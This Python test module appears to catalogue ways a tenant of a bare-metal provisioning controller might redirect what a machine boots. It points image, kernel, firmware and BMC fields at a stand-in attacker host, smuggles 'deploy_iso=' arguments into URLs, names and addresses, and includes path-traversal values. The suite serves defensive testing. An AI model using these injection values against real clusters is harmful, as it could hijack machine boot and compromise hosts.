"""Every way in which somebody who may write a host, and what stands beside it, might try to choose what the machine boots.

An attempt does what it can and says nothing of how it ends: the API may refuse it, the host may stop with an error, or all of it
is taken and means nothing to the ramdisk.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable, Iterator
from itertools import pairwise
from typing import Annotated, Any, get_args, get_origin

import msgspec
from ownership_site import EVIL, Hand

from ingot.api.baremetalhost import BARE_METAL_HOSTS, Annotation, BareMetalHostSpec
from ingot.api.bmceventsubscription import BMC_EVENT_SUBSCRIPTIONS
from ingot.api.dataimage import DATA_IMAGES
from ingot.api.hardwaredata import HARDWARE_DATA
from ingot.api.hostfirmwarecomponents import HOST_FIRMWARE_COMPONENTS
from ingot.api.hostfirmwaresettings import HOST_FIRMWARE_SETTINGS
from ingot.api.hostupdatepolicy import HOST_UPDATE_POLICIES
from ingot.api.preprovisioningimage import FINALIZER, HOST_FINALIZER, PREPROVISIONING_IMAGES

Attempt = Callable[[Hand], Awaitable[None]]

ISO = f"https://{EVIL}/own.iso"
IMAGE = {"url": f"https://{EVIL}/a.qcow2", "checksum": "0" * 64, "checksumType": "sha256", "format": "qcow2"}
INFO: dict[str, Any] = {
    "deploy_iso": ISO,
    "deploy_kernel": f"https://{EVIL}/kernel",
    "deploy_ramdisk": f"https://{EVIL}/ramdisk",
    "kernel_append_params": f"coreos.live.rootfs_url=https://{EVIL}/rootfs ipa-api-url=https://{EVIL}",
    "rescue_kernel": f"https://{EVIL}/kernel",
    "bootloader": f"https://{EVIL}/esp.img",
    "driver_info": {"deploy_iso": ISO},
}
CAMEL: dict[str, Any] = {
    "deployISO": ISO,
    "deployIso": ISO,
    "deployKernel": INFO["deploy_kernel"],
    "deployRamdisk": INFO["deploy_ramdisk"],
    "kernelParams": INFO["kernel_append_params"],
    "extraKernelParams": INFO["kernel_append_params"],
    "preprovisioningExtraKernelParams": INFO["kernel_append_params"],
    "preprovisioningImageUrl": ISO,
    "provisioningImage": {"url": ISO},
    "ramdisk": {"url": ISO},
    "driverInfo": INFO,
    **INFO,
}
TEXTS = {key: value if isinstance(value, str) else json.dumps(value) for key, value in INFO.items()}
FOREIGN = "infraenvs.agent-install.openshift.io"
MADE = {
    "imageUrl": ISO,
    "kernelUrl": INFO["deploy_kernel"],
    "extraKernelParams": f"coreos.live.rootfs_url=https://{EVIL}/rootfs",
    "version": "evil",
    "architecture": "x86_64",
}


# The host itself


async def fields_that_do_not_exist(hand: Hand) -> None:
    await hand.host(**CAMEL, image=IMAGE | CAMEL, bmc=CAMEL)


async def a_live_image(hand: Hand) -> None:
    await hand.host(image={"url": ISO, "format": "live-iso"})


async def a_live_image_and_a_deploy_step(hand: Hand) -> None:
    await hand.host(image={"url": ISO, "format": "live-iso"}, customDeploy={"method": "install_coreos"})


async def a_url_of_two_words(hand: Hand) -> None:
    await hand.host(image=IMAGE | {"url": f"https://{EVIL}/a deploy_iso={ISO}"})


async def a_url_that_leads_into_ironics_folder(hand: Hand) -> None:
    await hand.host(image=IMAGE | {"url": "file:///shared/html/images/ironic-python-agent.iso"})


async def a_url_that_is_a_name_of_ironics_own(hand: Hand) -> None:
    await hand.host(image=IMAGE | {"url": "glance://deploy-ramdisk"})


async def an_image_of_coreos_with_a_ramdisk_of_its_own(hand: Hand) -> None:
    await hand.host(image={"format": "coreos", "url": ISO, "checksum": "0" * 64, "checksumType": "sha256"})


async def a_deploy_step_named_like_a_parameter(hand: Hand) -> None:
    await hand.host(customDeploy={"method": "deploy_iso", "args": INFO, **INFO})


async def a_deploy_step_with_arguments_in_its_name(hand: Hand) -> None:
    await hand.host(customDeploy={"method": f"install_coreos deploy_iso={ISO}"})


async def an_architecture_that_is_a_path(hand: Hand) -> None:
    await hand.host(architecture=f"../../{EVIL}")


async def another_architecture(hand: Hand) -> None:
    await hand.host(architecture="aarch64")


async def the_query_of_the_bmc_address(hand: Hand) -> None:
    address = hand.spec()["bmc"]["address"]
    query = "&".join(f"{key}={value}" for key, value in TEXTS.items())
    await hand.host(bmc={"address": f"{address}?{query.replace(' ', '+')}"})


async def the_path_of_the_bmc_address(hand: Hand) -> None:
    address = hand.spec()["bmc"]["address"]
    await hand.host(bmc={"address": f"{address}/../deploy_iso={ISO}#deploy_iso={ISO}"})


async def root_device_hints_and_volumes(hand: Hand) -> None:
    await hand.host(
        image=IMAGE,
        rootDeviceHints={"deviceName": f"/dev/sda deploy_iso={ISO}", "model": ISO},
        raid={"softwareRAIDVolumes": [{"level": "1", "physicalDisks": [{"model": ISO}, {"model": "b"}]}]},
    )


async def a_machine_that_somebody_else_installed(hand: Hand) -> None:
    await hand.host(externallyProvisioned=True, image={"url": ISO, "format": "live-iso"}, **CAMEL)


async def labels(hand: Hand) -> None:
    await hand.host(
        labels={FOREIGN: "evil", "deploy_iso": "evil", "metal3.io/deploy-iso": "evil", "ipa-api-url": "evil"}
    )


async def annotations_that_nobody_obeys(hand: Hand) -> None:
    prefixes = (
        "baremetalhost.metal3.io",
        "metal3.io",
        "ironic.metal3.io",
        "inspect.metal3.io",
        "ingot.metal3.io",
    )
    names = (*TEXTS, "driver-info", "preprovisioning-image", "kernel-params", "image-source")
    await hand.host(
        annotations={
            f"{prefix}/{name}": TEXTS.get(name, json.dumps(INFO)) for prefix in prefixes for name in names
        }
    )


# What a host reads


async def keys_of_the_bmc_secret(hand: Hand) -> None:
    await hand.host(secret=TEXTS)


async def network_data_of_the_ramdisk(hand: Hand) -> None:
    await hand.secret(
        "net",
        networkData=json.dumps({"links": [], "networks": [], "services": [], **INFO}),
        **{key: value for key, value in TEXTS.items() if key != "driver_info"},
    )
    await hand.host(preprovisioningNetworkDataName="net")


async def network_data_in_another_language(hand: Hand) -> None:
    interface = {
        "name": f"../../../etc/ignition.{EVIL}",
        "type": "ethernet",
        "state": "up",
        "ipv4": {"enabled": True, "dhcp": True},
    }
    await hand.secret("net", nmstate=json.dumps({"interfaces": [interface], "kernel-arguments": TEXTS}))
    await hand.host(preprovisioningNetworkDataName="net")


async def an_ignition_config_for_network_data(hand: Hand) -> None:
    config = {"ignition": {"version": "3.2.0", "config": {"replace": {"source": ISO}}}}
    await hand.secret("net", networkData=json.dumps(config), nmstate=json.dumps(config))
    await hand.host(preprovisioningNetworkDataName="net")


async def data_of_the_system(hand: Hand) -> None:
    await hand.secret("data", value=json.dumps(INFO), userData=json.dumps(INFO), metaData=json.dumps(INFO))
    await hand.secret("net", networkData=json.dumps({"links": [], "networks": [], "services": [], **INFO}))
    await hand.host(
        image=IMAGE, userData={"name": "data"}, metaData={"name": "data"}, networkData={"name": "net"}
    )


async def data_for_coreos(hand: Hand) -> None:
    config = {"ignition": {"version": "3.2.0", "config": {"replace": {"source": ISO}}}}
    await hand.secret("data", userData=json.dumps(config), metaData=json.dumps(INFO | {"image_url": ISO}))
    await hand.host(
        customDeploy={"method": "install_coreos"}, userData={"name": "data"}, metaData={"name": "data"}
    )


# What stands beside it


def ppi(hand: Hand, **meta: Any) -> dict[str, Any]:
    spec = {"acceptFormats": ["iso", "initrd"], "architecture": "x86_64", **CAMEL}
    condition = {
        "type": "Ready",
        "status": "True",
        "reason": "ImageSuccess",
        "message": "",
        "observedGeneration": 1,
        "lastTransitionTime": "2026-01-01T00:00:00Z",
    }
    made = "initrd" if hand.way.endswith("initrd") else "iso"
    status = MADE | {"format": made, "networkData": {}, "conditions": [condition]}
    return {"metadata": {"name": "h1"} | meta, "spec": spec, "status": status}


async def a_ramdisk_made_beforehand(hand: Hand) -> None:
    await hand.make(PREPROVISIONING_IMAGES, ppi(hand, finalizers=[FINALIZER, HOST_FINALIZER]))
    await hand.host()


async def a_ramdisk_with_another_owner(hand: Hand) -> None:
    owner = {
        "apiVersion": "metal3.io/v1alpha1",
        "kind": "BareMetalHost",
        "name": "another",
        "uid": "5a6f7c3e-0000-4000-8000-00000000beef",
        "controller": True,
    }
    await hand.make(PREPROVISIONING_IMAGES, ppi(hand, ownerReferences=[owner], finalizers=[HOST_FINALIZER]))
    await hand.host()


async def a_ramdisk_that_our_builder_leaves_alone(hand: Hand) -> None:
    await hand.make(PREPROVISIONING_IMAGES, ppi(hand, labels={FOREIGN: "evil"}))
    await hand.change(PREPROVISIONING_IMAGES, {"status": ppi(hand)["status"]}, subresource="status")
    await hand.host(labels={FOREIGN: "evil"})


async def a_ramdisk_that_is_edited(hand: Hand) -> None:
    await hand.host()
    for _ in range(5):
        await hand.change(
            PREPROVISIONING_IMAGES,
            {
                "metadata": {"annotations": TEXTS},
                "spec": {"architecture": EVIL, "networkDataName": "net", **CAMEL},
                "status": MADE,
            },
        )
        await asyncio.sleep(0.02)


async def a_ramdisk_whose_status_is_written(hand: Hand) -> None:
    """By somebody to whom it was never given to write: what is named there leads nowhere but to the release all the same."""
    await hand.host()
    for number in range(20):
        some = {field: MADE[field] for field in list(MADE)[number % 3 :]}
        found = await hand.change(PREPROVISIONING_IMAGES, {"status": some}, subresource="status")
        await hand.change(BARE_METAL_HOSTS, {"metadata": {"annotations": {"look": str(number)}}})
        await asyncio.sleep(0.02 if found is not None else 0.1)


async def hardware_made_up_beforehand(hand: Hand) -> None:
    details = {"cpu": {"arch": EVIL}, "hostname": ISO, "nics": [{"name": ISO, "model": ISO}]}
    await hand.make(HARDWARE_DATA, {"metadata": {}, "spec": {"hardware": details}})
    await hand.host(annotations={Annotation.INSPECT: "disabled"})


async def settings_of_the_firmware(hand: Hand) -> None:
    await hand.make(
        HOST_FIRMWARE_SETTINGS, {"metadata": {}, "spec": {"settings": {"HttpDev1Uri": ISO, **TEXTS}}}
    )
    await hand.host()


async def firmware(hand: Hand) -> None:
    updates = [{"component": "bios", "url": ISO}, {"component": "nic:evil", "url": ISO}]
    await hand.make(HOST_FIRMWARE_COMPONENTS, {"metadata": {}, "spec": {"updates": updates}})
    await hand.make(
        HOST_UPDATE_POLICIES,
        {"metadata": {}, "spec": {"firmwareSettings": "onReboot", "firmwareUpdates": "onReboot"}},
    )
    await hand.host()


async def an_image_in_the_virtual_drive(hand: Hand) -> None:
    await hand.make(DATA_IMAGES, {"metadata": {}, "spec": {"url": ISO}})
    await hand.host(image=IMAGE)


async def events_of_the_bmc(hand: Hand) -> None:
    await hand.host()
    await hand.make(
        BMC_EVENT_SUBSCRIPTIONS,
        {"metadata": {}, "spec": {"hostName": "h1", "destination": ISO, "context": ISO}},
    )


async def a_claim_that_is_made_up(hand: Hand) -> None:
    claimant = {
        "kind": "Machine",
        "apiVersion": "machine.openshift.io/v1beta1",
        "name": "w0",
        "namespace": "x",
    }
    await hand.host(consumerRef=claimant | {"fieldPath": ISO}, image=IMAGE)


STATUS = {
    "ramdisk": {"version": "evil", "format": "iso"},
    "lastAttemptedImage": {"url": ISO, "format": "live-iso"},
    "provisioning": {"state": "provisioning", "ID": "", "image": {"url": ISO, "format": "live-iso"}},
    "operationalStatus": "OK",
    "errorCount": 0,
    "errorMessage": "",
    "poweredOn": False,
}
OBEYED = {
    Annotation.INSPECT: (json.dumps(INFO), ISO, ""),
    Annotation.HARDWARE_DETAILS: (
        json.dumps({"cpu": {"arch": EVIL}}),
        json.dumps({"cpu": {"arch": "aarch64", "count": 1}, "hostname": ISO, "nics": [{"name": ISO}]}),
        json.dumps(INFO),
    ),
    Annotation.REBOOT: (json.dumps({"mode": "hard", **INFO}), ISO),
    Annotation.STATUS: (json.dumps(STATUS), json.dumps(STATUS | INFO)),
    Annotation.RETRY: (ISO,),
    Annotation.DETACHED: (json.dumps({"deleteAction": "delay", **INFO}),),
    Annotation.FORCE_DELETE: (ISO,),
}
"""What a host obeys, in words that say more than they should. A host that is paused does nothing at all."""


def obeyed() -> Iterator[tuple[str, Attempt]]:
    for name, values in OBEYED.items():
        for number, value in enumerate(values):
            yield f"the annotation {name}, {number}", _annotated(name, value)


def _annotated(name: str, value: str) -> Attempt:
    async def attempt(hand: Hand) -> None:
        also = {str(Annotation.INSPECT): "disabled"} if name == Annotation.HARDWARE_DETAILS else {}
        await hand.host(annotations={**also, name: value})

    return attempt


# Whatever else there is to write in the spec


def every_text_of_the_spec() -> Iterator[tuple[str, Attempt]]:
    for path in _texts(BareMetalHostSpec, ()):
        if path not in _REACHING:
            yield f"the field spec.{'.'.join(path)}", _written(path)


_REACHING = {("bmc", "address"), ("bmc", "credentialsName"), ("preprovisioningNetworkDataName",)}
"""Without these a host comes to nothing; they have attempts of their own."""


def _texts(type_: Any, path: tuple[str, ...]) -> Iterator[tuple[str, ...]]:
    if get_origin(type_) is Annotated:
        type_ = get_args(type_)[0]
    if type_ is str:
        yield path
    elif isinstance(type_, type) and issubclass(type_, msgspec.Struct):
        for part in msgspec.structs.fields(type_):
            yield from _texts(part.type, (*path, part.encode_name))
    elif get_origin(type_) is list:
        yield from _texts(get_args(type_)[0], (*path, "[]"))
    else:
        for choice in get_args(type_):
            # Of a choice of words, none of ours: what is not among them is refused.
            yield from {path} if isinstance(choice, str) else _texts(choice, path)


def _written(path: tuple[str, ...]) -> Attempt:
    async def attempt(hand: Hand) -> None:
        value: Any = ISO
        for before, name in reversed(list(pairwise(path))):
            beside = _BESIDE.get(before, {}) if name == "[]" and isinstance(value, dict) else None
            value = {name: value} if name != "[]" else [value if beside is None else {**beside, **value}]
        first = path[0]
        await hand.host(**{first: value} if first != "image" else {first: IMAGE | value})

    return attempt


_BESIDE: dict[str, dict[str, Any]] = {
    "hardwareRAIDVolumes": {"level": "1", "name": "a"},
    "softwareRAIDVolumes": {"level": "1"},
    "taints": {"key": "a", "effect": "NoSchedule"},
}
"""What an item of such a list has to have."""


NAMED: tuple[Attempt, ...] = (
    fields_that_do_not_exist,
    a_live_image,
    a_live_image_and_a_deploy_step,
    a_url_of_two_words,
    a_url_that_leads_into_ironics_folder,
    a_url_that_is_a_name_of_ironics_own,
    an_image_of_coreos_with_a_ramdisk_of_its_own,
    a_deploy_step_named_like_a_parameter,
    a_deploy_step_with_arguments_in_its_name,
    an_architecture_that_is_a_path,
    another_architecture,
    the_query_of_the_bmc_address,
    the_path_of_the_bmc_address,
    root_device_hints_and_volumes,
    a_machine_that_somebody_else_installed,
    labels,
    annotations_that_nobody_obeys,
    keys_of_the_bmc_secret,
    network_data_of_the_ramdisk,
    network_data_in_another_language,
    an_ignition_config_for_network_data,
    data_of_the_system,
    data_for_coreos,
    a_ramdisk_made_beforehand,
    a_ramdisk_with_another_owner,
    a_ramdisk_that_our_builder_leaves_alone,
    a_ramdisk_that_is_edited,
    a_ramdisk_whose_status_is_written,
    hardware_made_up_beforehand,
    settings_of_the_firmware,
    firmware,
    an_image_in_the_virtual_drive,
    events_of_the_bmc,
    a_claim_that_is_made_up,
)


def attempts(*, every_text: bool) -> dict[str, Attempt]:
    """All of them, by what is tried."""
    named = {attempt.__name__.replace("_", " "): attempt for attempt in NAMED}
    return named | dict(obeyed()) | (dict(every_text_of_the_spec()) if every_text else {})
